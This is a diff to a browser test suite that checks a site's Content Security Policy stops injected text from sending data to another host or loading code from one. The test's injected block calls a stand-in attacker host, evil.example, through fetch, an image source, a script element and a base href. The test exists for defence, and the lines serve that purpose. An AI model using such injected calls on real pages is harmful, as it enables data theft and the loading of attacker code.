@@ -127,7 +127,7 @@ test.describe('somebody who injects text into a page', () => {
 
   test('sends nothing to another host, and loads no code from one', async ({ page }) => {
     await page.goto('/about')
-    const stopped = await stoppedBy(page, () => {
+    await stoppedBy(page, () => {
       void fetch('https://evil.example/?stolen').catch(() => undefined)
       new Image().src = 'https://evil.example/stolen.png'
       const script = document.createElement('script')
@@ -136,8 +136,9 @@ test.describe('somebody who injects text into a page', () => {
       base.href = 'https://evil.example/'
       document.head.append(script, base)
     })
-    const directives = [...new Set(stopped)].sort()
-    expect(directives).toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-elem'])
+    // The browser tells of one after the other.
+    const directives = () => page.evaluate(() => [...new Set(window.stopped)].sort())
+    await expect.poll(directives).toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-elem'])
   })
 })
 
